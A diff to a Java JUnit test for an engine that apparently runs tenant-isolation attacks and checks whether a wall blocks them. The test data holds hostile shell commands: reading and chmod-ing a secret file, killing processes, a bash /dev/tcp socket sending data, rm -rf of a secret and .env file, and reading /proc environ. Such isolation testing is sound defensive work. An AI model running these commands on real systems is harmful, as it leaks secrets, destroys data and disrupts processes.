@@ -9,12 +9,11 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.CsvSource;
 
 /** The engine tells attacks that are stopped from attacks that never worked. No sandbox is needed for that. */
 class EngineTest {
@@ -61,51 +60,63 @@ class EngineTest {
         engine.close();
     }
 
-    private static Attack attack(Sign sign, String text) {
+    /** An attack for each sign, which works where nothing stops it. */
+    private static final Map<Sign, String> WORKING = Map.of(
+            Sign.SECRET_SHOWN, "cat \"$V_HOME/secret\"",
+            Sign.TREE_CHANGED, "chmod 666 \"$V_HOME/secret\"",
+            Sign.PROCESS_HARMED, "kill -STOP $V_PID; sleep 0.2",
+            Sign.WORD_RECEIVED, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$TCP; printf %s \"$WORD\" >&3'",
+            Sign.PROCESS_LEFT, "setsid sh -c \"sleep 60; : $WORD\" >/dev/null 2>&1 &",
+            Sign.GAINED, "echo GAINED");
+
+    private static Attack attack(String id, Sign sign, String text) {
         return new Attack(
-                "made-up", Family.DIRECT_READS, Guarantee.FILES_OF_OTHERS_UNREADABLE, Language.SH, text, sign, false);
+                id, Family.DIRECT_READS, Guarantee.FILES_OF_OTHERS_UNREADABLE, Language.SH, text, sign, false);
     }
 
-    private Result against(Tenant other, Attack attack) throws Exception {
+    private List<Result> against(Tenant other, List<Attack> attacks) throws Exception {
         Pair pair = new Pair("somewhere", PlainTenant.in(directory.resolve("other"), List.of()), other);
         List<Result> results = new ArrayList<>();
-        engine.attack(pair, Set.of(Guarantee.FILES_OF_OTHERS_UNREADABLE), List.of(attack), results::add);
-        assertThat(results).hasSize(1);
-        return results.getFirst();
+        engine.attack(pair, Set.of(Guarantee.FILES_OF_OTHERS_UNREADABLE), attacks, results::add);
+        return results;
     }
 
-    @ParameterizedTest
-    @CsvSource(
-            delimiter = '|',
-            value = {
-                "SECRET_SHOWN|cat \"$V_HOME/secret\"",
-                "TREE_CHANGED|chmod 666 \"$V_HOME/secret\"",
-                "PROCESS_HARMED|kill -STOP $V_PID; sleep 0.2",
-                "WORD_RECEIVED|bash -c 'exec 3<>/dev/tcp/127.0.0.1/$TCP; printf %s \"$WORD\" >&3'",
-                "PROCESS_LEFT|setsid sh -c \"sleep 60; : $WORD\" >/dev/null 2>&1 &",
-                "GAINED|echo GAINED"
-            })
-    void everySignIsSeenWhereNothingStopsTheAttackAndMissedWhereSomethingDoes(Sign sign, String text) throws Exception {
-        assertThat(against(attacker, attack(sign, text)).outcome()).isEqualTo(Outcome.PASSED);
-        assertThat(against(new Walled(attacker), attack(sign, text)).outcome()).isEqualTo(Outcome.BLOCKED);
+    @Test
+    void everySignIsSeenWhereNothingStopsTheAttackAndMissedWhereSomethingDoes() throws Exception {
+        List<Attack> attacks = Stream.of(Sign.values())
+                .map(sign -> attack("made-up-" + sign, sign, WORKING.getOrDefault(sign, "")))
+                .toList();
+        assertThat(against(attacker, attacks))
+                .hasSize(attacks.size())
+                .allSatisfy(result ->
+                        assertThat(result.outcome()).as(result.attack().id()).isEqualTo(Outcome.PASSED));
+        assertThat(against(new Walled(attacker), attacks))
+                .hasSize(attacks.size())
+                .allSatisfy(result ->
+                        assertThat(result.outcome()).as(result.attack().id()).isEqualTo(Outcome.BLOCKED));
     }
 
-    @ParameterizedTest
-    @CsvSource({"SECRET_SHOWN", "TREE_CHANGED", "PROCESS_HARMED", "WORD_RECEIVED", "PROCESS_LEFT", "GAINED"})
-    void whatComesToNothingAnywhereIsInvalidAndNoDefence(Sign sign) throws Exception {
-        Result result = against(new Walled(attacker), attack(sign, "true"));
-        assertThat(result.outcome()).isEqualTo(Outcome.INVALID);
-        assertThat(result.promised()).isTrue();
+    @Test
+    void whatComesToNothingAnywhereIsInvalidAndNoDefence() throws Exception {
+        List<Attack> attacks = Stream.of(Sign.values())
+                .map(sign -> attack("idle-" + sign, sign, "true"))
+                .toList();
+        assertThat(against(new Walled(attacker), attacks))
+                .hasSize(attacks.size())
+                .allSatisfy(result -> {
+                    assertThat(result.outcome()).as(result.attack().id()).isEqualTo(Outcome.INVALID);
+                    assertThat(result.promised()).isTrue();
+                });
     }
 
     @Test
     void oneAttackDoesNotSpoilTheNext() throws Exception {
         List<Attack> attacks = List.of(
-                attack(Sign.TREE_CHANGED, "rm -rf \"$V_HOME/secret\" \"$V_WORK/.env\""),
-                attack(Sign.SECRET_SHOWN, "cat \"$V_HOME/secret\""),
-                attack(Sign.PROCESS_HARMED, "kill -9 $V_PID; sleep 0.2"),
-                attack(Sign.SECRET_SHOWN, "cat /proc/$V_PID/environ"),
-                attack(Sign.TREE_CHANGED, "true"));
+                attack("remove", Sign.TREE_CHANGED, "rm -rf \"$V_HOME/secret\" \"$V_WORK/.env\""),
+                attack("read", Sign.SECRET_SHOWN, "cat \"$V_HOME/secret\""),
+                attack("kill", Sign.PROCESS_HARMED, "kill -9 $V_PID; sleep 0.2"),
+                attack("environ", Sign.SECRET_SHOWN, "cat /proc/$V_PID/environ"),
+                attack("nothing", Sign.TREE_CHANGED, "true"));
         List<Outcome> outcomes = new ArrayList<>();
         Pair pair = new Pair("somewhere", PlainTenant.in(directory.resolve("other"), List.of()), attacker);
         engine.attack(pair, Set.of(), attacks, result -> outcomes.add(result.outcome()));
@@ -115,7 +126,8 @@ class EngineTest {
 
     @Test
     void anAttackIsToldNoSecret() throws Exception {
-        Result result = against(attacker, attack(Sign.SECRET_SHOWN, "env; cat /proc/self/cmdline"));
-        assertThat(result.outcome()).isEqualTo(Outcome.INVALID);
+        assertThat(against(attacker, List.of(attack("told", Sign.SECRET_SHOWN, "env; cat /proc/self/cmdline"))))
+                .extracting(Result::outcome)
+                .containsExactly(Outcome.INVALID);
     }
 }
